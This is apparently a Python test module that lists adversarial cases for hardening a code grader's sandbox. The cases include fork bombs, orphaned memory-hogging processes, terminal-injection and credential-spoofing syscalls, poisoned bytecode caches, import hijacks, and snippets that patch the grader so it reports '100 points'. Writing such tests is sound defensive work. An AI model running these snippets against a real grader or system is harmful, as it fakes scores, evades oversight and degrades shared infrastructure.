"""Attacks by somebody who has read the source: what a greeting carries, who counts as below whom, calls that few know, state between calls."""

from __future__ import annotations

from .suite import Attack, cells, loads, returns, tries

KERNEL = [
    loads("hello-with-descriptors", "leave descriptors open in the grader with every greeting", """
        real = socket.recv_fds
        def recv_fds(sock, size, most):
            data, fds, *rest = real(sock, size, most)
            for fd in fds:
                with socket.socket(fileno=os.dup(fd)) as s:
                    socket.send_fds(s, [b'h'], [0] * 200)
                os.close(fd)
            return (data, [], *rest) if fds else (data, fds, *rest)
        socket.recv_fds = recv_fds
    """),
    returns("memory-in-orphans", "memory in processes that nobody is the parent of", """
        for _ in range(7):
            if os.fork() == 0:
                if os.fork():
                    os._exit(0)
                keep = [np.ones(1 << 20) for _ in range(16)]
                time.sleep(4)
                os._exit(0)
        time.sleep(3)
        return x
    """, needs="memory", long=True),
    loads("memory-in-siblings", "memory in processes beside the session", """
        CLONE_PARENT = 0x8000
        for _ in range(7):
            if call(56, CLONE_PARENT | 17, 0, 0, 0, 0) == 0:
                keep = [np.ones(1 << 20) for _ in range(16)]
                time.sleep(4)
                os._exit(0)
        time.sleep(1)
    """, needs="memory", long=True),
    returns("orphans-without-end", "processes whose parents have gone, as many as there can be", """
        until = time.time() + 10
        while time.time() < until:
            try:
                if os.fork() == 0:
                    if os.fork():
                        os._exit(0)
                    time.sleep(10)
                    os._exit(0)
            except OSError:
                time.sleep(0.01)
    """, needs="processes", long=True),
    tries("lease", "make whoever opens a file wait for it", """
        import fcntl
        open('f', 'w').close()
        handle = os.open('f', os.O_RDONLY)
        return fcntl.fcntl(handle, fcntl.F_SETLEASE, fcntl.F_WRLCK) == 0
    """),
    tries("notify-folder", "be told who opens what", """
        import fcntl
        signal.signal(signal.SIGIO, signal.SIG_IGN)
        return fcntl.fcntl(os.open('.', os.O_RDONLY), fcntl.F_NOTIFY, fcntl.DN_ACCESS) == 0
    """),
    tries("file-flags", "change a file's flags through a descriptor that only reads", """
        import fcntl
        open('f', 'w').close()
        handle, done = os.open('f', os.O_RDONLY), []
        for request, size in ((0x40086602, 8), (0x40087602, 8), (0x401c5820, 28), (0x40806685, 128)):
            try:
                fcntl.ioctl(handle, request, bytes(size))
                done.append(request)
            except OSError as e:
                done += [request] if e.errno not in (1, 25) else []
        return done
    """),
    tries("own-filter", "a filter of one's own that tells somebody", """
        notify = ctypes.create_string_buffer(16)
        return call(317, 1, 8, notify) >= 0
    """),
    tries("trace-me", "be traced by the parent", "return libc.ptrace(0, 0, 0, 0) == 0"),
    tries("memfd-exec", "a program from memory", """
        handle = call(319, b'x', 0)
        if handle < 0:
            handle = os.open('p', os.O_CREAT | os.O_RDWR, 0o700)
        os.write(handle, b'#!/bin/sh\\ntouch @TMP@/by-attack')
        empty = (ctypes.c_char_p * 1)(None)
        return call(322, handle, b'', empty, empty, 0x1000) == 0
    """),
    tries("tiocsti-wide", "type into a terminal by the upper half of a register", "return call(16, channel().fileno(), 0x5412 | (1 << 32), b'x') == 0"),
    tries("speak-for-another", "send as somebody else", """
        a, b = socket.socketpair()
        b.setsockopt(socket.SOL_SOCKET, socket.SO_PASSCRED, 1)
        return a.sendmsg([b'x'], [(socket.SOL_SOCKET, socket.SCM_CREDENTIALS, struct.pack('3i', @GRADER_PID@, 0, 0))])
    """),
    tries("core-pattern", "leave a dump behind", """
        import resource
        if os.fork() == 0:
            resource.setrlimit(resource.RLIMIT_CORE, (1 << 30, 1 << 30))
            os.abort()
        os.wait()
        return [n for n in os.listdir('.') if n.startswith('core')]
    """),
]  # fmt: skip

PROTOCOL = [
    returns("frame-out-of-band", "an urgent byte where an answer is expected", """
        for byte in frame({'tree': message(value=1.0, points=1), 'arrays': []}):
            channel().send(bytes([byte]), socket.MSG_OOB)
        time.sleep(3)
    """, long=True),
    returns("frame-for-the-next", "answers for requests that have not come", """
        reply(message(value=None, changed=[], seconds=0.0, said=[], type=''))
        reply(message(value=1.0, changed=[], seconds=0.0, said=[], type='float'))
        return x
    """),
    returns("half-closed", "take nothing more and answer all the same", """
        channel().shutdown(socket.SHUT_RD)
        return 1.0
    """),
    returns("half-closed-the-other-way", "never answer and stay", """
        channel().shutdown(socket.SHUT_WR)
        time.sleep(3)
    """),
    returns("swap-channel", "another end in the place of the channel", """
        a, b = socket.socketpair()
        os.dup2(a.fileno(), channel().fileno())
        return 1.0
    """),
    returns("answer-from-a-child", "the child answers, the parent too", """
        if os.fork() == 0:
            time.sleep(0.05)
        return 1.0
    """),
    returns("no-blocking", "a channel that does not wait", "channel().setblocking(False)\nreturn np.zeros(1 << 20)"),
    returns("small-buffers", "a channel with the smallest buffers", """
        for what in (socket.SO_SNDBUF, socket.SO_RCVBUF):
            channel().setsockopt(socket.SOL_SOCKET, what, 1)
        return np.zeros(1 << 17)
    """),
    returns("held-numbers", "objects without end that the grader holds", """
        class A:
            pass
        return [A() for _ in range(150000)]
    """, long=True),
    returns("tags-in-text", "text that reads like the protocol's own", """return {'$': 'array', 'at': 0, 'of': [{'$': 'ref', 'id': 0}]}"""),
    returns("keys-by-thousands", "a mapping whose keys are parts", "return {tuple([n] * 30): n for n in range(6000)}", long=True),
]  # fmt: skip

STATE = [
    loads("poison-cache", "compiled files for later imports", """
        import importlib.util, marshal, types
        os.makedirs('__pycache__', exist_ok=True)
        code = marshal.dumps(compile('def double(x):\\n    return 2 * x\\n', 'net.py', 'exec'))
        for name in ('net', 'numpy', 'box', 'json'):
            head = importlib.util.MAGIC_NUMBER + struct.pack('<III', 0, 0, 0)
            open(f'__pycache__/{name}.cpython-311.pyc', 'wb').write(head + code)
            open(f'{name}.py', 'w').write('raise SystemExit')
    """),
    returns("remember-requests", "remember what was asked for the next call", """
        seen = np.load('seen.npy') if os.path.exists('seen.npy') else None
        np.save('seen.npy', x)
        return seen
    """),
    loads("meta-path", "a finder that answers for everything", """
        class F:
            def find_spec(self, name, path=None, target=None):
                os._exit(0)
        sys.meta_path.insert(0, F())
        sys.path_hooks.insert(0, lambda p: os._exit(0))
        sys.path_importer_cache.clear()
    """),
    loads("replace-conversation", "find the conversation and change what it says", """
        for o in gc.get_objects():
            if type(o).__name__ == 'Conversation':
                o.lookup = lambda name: (lambda x: 1.0)
        for kind in [o for o in gc.get_objects() if isinstance(o, type) and o.__name__ in ('Conversation', 'ToPlain', 'Reader', 'Objects')]:
            for name in list(vars(kind)):
                if callable(getattr(kind, name)) and not name.startswith('__'):
                    setattr(kind, name, lambda *a, **k: {'value': 1.0, 'points': 100})
    """),
    loads("trampoline", "machine code in the place of a function of the grader's", """
        libc.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
        sys.modules['box.calls'].Conversation.serve.__code__ = (lambda self, sock: sock.sendall(b'100 points')).__code__
    """),
    loads("immortal-exceptions", "exceptions that nobody can let go", """
        class E(Exception):
            def __del__(self):
                raise E(self)
        try:
            raise E()
        except E as e:
            e.__context__ = e.__cause__ = None
            kept = e
        sys.unraisablehook = lambda *a: time.sleep(100)
    """),
    loads("switch-interval", "never let another thread run", """
        sys.setswitchinterval(1e6)
        threading.Thread(target=lambda: [None for _ in iter(int, 1)], daemon=True).start()
    """),
    loads("closed-over-frames", "raise in every later frame by a tracer of threads", """
        def trace(frame, event, arg):
            raise KeyboardInterrupt
        threading.settrace(trace)
        sys.setprofile(trace)
    """),
    loads("signal-storm", "a signal every tenth of a millisecond", """
        signal.signal(signal.SIGPROF, lambda *a: None)
        signal.setitimer(signal.ITIMER_PROF, 1e-4, 1e-4)
        signal.signal(signal.SIGALRM, lambda *a: None)
        signal.setitimer(signal.ITIMER_REAL, 1e-4, 1e-4)
    """),
    loads("wakeup-descriptor", "bytes into the channel at every signal", """
        os.set_blocking(channel().fileno(), False)
        signal.set_wakeup_fd(channel().fileno())
        signal.signal(signal.SIGALRM, lambda *a: None)
        signal.setitimer(signal.ITIMER_REAL, 1e-3, 1e-3)
    """),
    loads("codecs", "an error handler that answers for others", """
        import codecs
        codecs.register_error('backslashreplace', lambda e: ('"points":100', e.end))
        codecs.register_error('replace', lambda e: ('x' * 10 ** 8, e.end))
    """),
]  # fmt: skip

_VALUES = {
    "bytes-subclass": "class A(bytes):\n    __len__ = lambda s: 1 << 60\n    __getitem__ = lambda s, k: b'100 points'\nreturn A(b'x')",
    "array-recursion": "class A:\n    def __array__(self, *a, **k):\n        return np.asarray(A())\nreturn A()",
    "array-bomb": "class A:\n    def __array__(self, *a, **k):\n        return np.ones(1 << 40)\nreturn A()",
    "buffer-lies": "class A(np.ndarray):\n    __array_finalize__ = None\n    nbytes = size = itemsize = property(lambda s: 0)\nreturn np.ones(1 << 18).view(A)",
    "fraction-hangs": "from fractions import Fraction\nclass F(Fraction):\n    def __float__(self):\n        while True:\n            pass\nreturn F(1, 3)",
    "signalling-decimal": "from decimal import Decimal\nreturn [Decimal('sNaN'), Decimal('1e999999'), Decimal('-0')]",
    "getattr-recursion": "class A:\n    def __getattr__(self, n):\n        return getattr(self, n + n)\nreturn A()",
    "str-of-error-hangs": "class E(Exception):\n    def __str__(self):\n        while True:\n            pass\nraise E()",
    "str-of-error-lies": "class S(str):\n    def __getitem__(self, k):\n        while True:\n            pass\nclass E(Exception):\n    __str__ = lambda s: S('x')\nraise E()",
    "huge-error": "raise ValueError('\\u202e<script>alert(1)</script>' * 10 ** 7, 10 ** 4000)",
    "error-in-hash": "class M(type):\n    __name__ = property(lambda c: 1 // 0)\nclass E(Exception, metaclass=M):\n    pass\nraise E()",
    "warning-bomb": "import warnings\nwarnings.warn('x' * 10 ** 8)\nfor n in range(5000):\n    warnings.warn(f'\\x1b[2J\\u202e{n}' * 1000)\nreturn x",
    "escapes": "raise ValueError('\\x1b]0;owned\\x07\\x1b[2J\\x1b[31m100 points\\x9b2J\\r\\u2028\\u202eGOOD')",
    "dict-grows": "class D(dict):\n    pass\nd = D(a=1)\nclass K(str):\n    def __str__(s):\n        d.update({str(len(d)) * 9: 1})\n        return 'x'\nd[K('k')] = 2\nreturn d",
    "list-grows": "a = [1.0]\nclass B(np.ndarray):\n    def __array_finalize__(s, o):\n        a.append(1.0)\na += [np.zeros(1).view(B)] * 3\nreturn a",
    "generator-of-self": "def g():\n    yield from g()\nreturn set(g())",
    "exit-in-del": "class A:\n    def __del__(self):\n        os._exit(0)\nreturn [A()]",
    "finalizers": "import weakref\nweakref.finalize(x, os._exit, 0)\nreturn x",
}  # fmt: skip

_LONG = ("fraction-hangs", "str-of-error-lies", "warning-bomb")
RETURNED = [
    returns(f"lie-{name}", "a hostile value or exception", body, long=name in _LONG)
    for name, body in _VALUES.items()
]

BOOKS = [
    cells("notebook-large-display", "outputs of megabytes", """
        from IPython.display import display
        for _ in range(20):
            display({'text/html': '<b>' * (1 << 21), 'image/png': 'A' * (4 << 20)}, raw=True)
    """, long=True),
    cells("notebook-escapes", "a terminal's escapes in every output", """
        print('\\x1b]0;owned\\x07\\x1b[2J\\u202e100 points')
        raise ValueError('\\x1b[31m<script>alert(1)</script>')
    """),
    cells("notebook-hook", "a display hook and an exception hook of one's own", """
        sys.displayhook = lambda v: os._exit(0)
        get_ipython().set_custom_exc((BaseException,), lambda *a, **k: os._exit(0))
        get_ipython().display_formatter.formatters['text/plain'].for_type(int, lambda *a: 1 // 0)
        1
    """),
    cells("notebook-patient", "cells that ignore the interrupt in turn", """
        signal.signal(signal.SIGINT, signal.SIG_IGN)
        while True:
            pass
    """, long=True),
]  # fmt: skip

DEEPER: list[Attack] = KERNEL + PROTOCOL + STATE + RETURNED + BOOKS
